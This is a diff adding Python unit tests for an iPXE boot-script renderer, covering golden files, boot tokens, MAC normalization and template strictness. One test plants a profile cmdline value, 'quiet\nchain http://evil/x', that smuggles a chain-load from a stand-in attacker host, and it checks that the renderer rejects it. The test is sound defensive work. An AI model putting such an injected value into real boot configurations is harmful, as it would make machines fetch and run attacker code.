@@ -1,0 +1,131 @@
+"""iPXE scripts: look-up by MAC/UUID, one template per boot source, compared with golden files."""
+
+from __future__ import annotations
+
+import os
+import re
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from appliance.boot.ipxe import ScriptRenderer, find_target, make_environment, normalize_mac
+from appliance.store.tables import BootTokenRow
+from tests.unit.boot.conftest import Inventory, profile_doc
+
+GOLDEN = Path(__file__).resolve().parents[2] / "golden" / "ipxe"
+BASE = "http://10.77.0.1:8080"
+
+
+def fixed_token(_session: object, binding: object) -> str:
+    return "TOKEN"
+
+
+def render(inv: Inventory, mac: str | None, uuid: str | None = None) -> str:
+    renderer = ScriptRenderer(BASE, token_factory=fixed_token)  # type: ignore[arg-type]
+    with inv.store.write() as s:
+        return renderer.render(s, mac, uuid).text
+
+
+def check_golden(name: str, text: str) -> None:
+    path = GOLDEN / name
+    if os.environ.get("ANVIL_REGEN_GOLDEN"):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    assert text == path.read_text(), f"{name} differs from its golden file"
+
+
+CASES = [
+    ("image-by-blade-mac.ipxe", "52:54:00:00:01:01", None),
+    ("image-by-profile-mac.ipxe", "02-A0-00-00-00-01", None),
+    ("image-by-uuid.ipxe", None, "4C4C4544-0042-3510-8052-B4C04F384D32"),
+    ("iscsi-sanboot.ipxe", "52:54:00:00:02:01", None),
+    ("iscsi-sanhook-image.ipxe", "02:a0:00:00:04:01", None),
+    ("local-legacy.ipxe", "52:54:00:00:03:01", None),
+    ("unbound-blade.ipxe", "52:54:00:00:05:01", None),
+    ("unbound-blade-by-uuid.ipxe", None, "11111111-2222-3333-4444-555555555555"),
+    ("discover.ipxe", "52:54:00:99:99:99", None),
+]
+
+
+@pytest.mark.parametrize(("golden", "mac", "uuid"), CASES, ids=[c[0] for c in CASES])
+def test_script_matches_golden_file(inventory: Inventory, golden: str, mac: str | None, uuid: str | None) -> None:
+    text = render(inventory, mac, uuid)
+    check_golden(golden, text)
+    lines = text.splitlines()
+    assert lines[0] == "#!ipxe"
+    assert all(line == line.strip() and line for line in lines), "one statement per line, no blank lines"
+    assert "{{" not in text and "{%" not in text
+
+
+def test_local_uefi_exits(inventory: Inventory) -> None:
+    inventory.add_blade("blade-6", ("52:54:00:00:06:01",))
+    inventory.add_profile(profile_doc("local-02", {"type": "local"}, macs=("02:a0:00:00:06:01",)))
+    inventory.bind("local-02", "blade-6")
+    assert render(inventory, "52:54:00:00:06:01").splitlines()[-1] == "exit"
+
+
+def test_fc_source_hands_over_to_the_next_boot_device(inventory: Inventory) -> None:
+    inventory.add_blade("blade-7", ("52:54:00:00:07:01",))
+    inventory.add_profile(profile_doc("fc-01", {"type": "fc", "targetWwpn": "50:06:01:60:3e:a0:12:34", "lun": 1},
+                                      mode="legacy"))
+    inventory.bind("fc-01", "blade-7")
+    assert render(inventory, "52:54:00:00:07:01").splitlines()[-1] == "sanboot --no-describe --drive 0x80"
+
+
+def test_a_newer_script_voids_the_previous_token(inventory: Inventory) -> None:
+    renderer = ScriptRenderer(BASE)
+    tokens = []
+    for _ in range(2):
+        with inventory.store.write() as s:
+            text = renderer.render(s, "52:54:00:00:01:01").text
+        m = re.search(r"anvil\.token=(\S+)", text)
+        assert m
+        tokens.append(m.group(1))
+    assert tokens[0] != tokens[1]
+    with inventory.store.read() as s:
+        rows = s.scalars(select(BootTokenRow).order_by(BootTokenRow.id)).all()
+    assert [(r.kind, r.voided_at is not None) for r in rows] == [("boot", True), ("boot", False)]
+    assert all(t not in (r.token_hash for r in rows) for t in tokens), "tokens are stored hashed"
+
+
+def test_no_token_for_sources_that_do_not_call_back(inventory: Inventory) -> None:
+    renderer = ScriptRenderer(BASE)
+    with inventory.store.write() as s:
+        for mac in ("52:54:00:00:02:01", "52:54:00:00:03:01", "52:54:00:00:05:01", "52:54:00:99:99:99"):
+            assert not renderer.render(s, mac).token_issued
+        assert s.scalars(select(BootTokenRow)).first() is None
+
+
+def test_profile_values_cannot_add_statements(inventory: Inventory) -> None:
+    inventory.add_blade("blade-8", ("52:54:00:00:08:01",))
+    inventory.add_profile(profile_doc("evil-01", {"type": "image", "kernel": "k", "initrd": "i",
+                                                  "cmdline": "quiet\nchain http://evil/x"}))
+    inventory.bind("evil-01", "blade-8")
+    with pytest.raises(ValueError, match="control characters"):
+        render(inventory, "52:54:00:00:08:01")
+
+
+def test_released_binding_is_not_found_by_its_profile_mac(inventory: Inventory) -> None:
+    from appliance.store.tables import BindingRow
+
+    with inventory.store.write() as s:
+        s.get(BindingRow, inventory.bindings["web-01"]).state = "released"  # type: ignore[union-attr]
+    with inventory.store.read() as s:
+        assert find_target(s, "02:a0:00:00:00:01") is None
+        target = find_target(s, "52:54:00:00:01:01")
+    assert target is not None and target.binding is None
+
+
+def test_templates_are_strict() -> None:
+    env = make_environment()
+    with pytest.raises(Exception, match="undefined"):
+        env.get_template("boot.image.ipxe.j2").render()
+
+
+@pytest.mark.parametrize(("raw", "norm"), [("52:54:00:AA:bb:01", "52:54:00:aa:bb:01"),
+                                           ("52-54-00-aa-bb-01", "52:54:00:aa:bb:01"),
+                                           ("525400aabb01", "52:54:00:aa:bb:01"),
+                                           ("52:54:00:aa:bb", None), ("52:54-00:aa:bb:01", None), ("", None)])
+def test_normalize_mac(raw: str, norm: str | None) -> None:
+    assert normalize_mac(raw) == norm
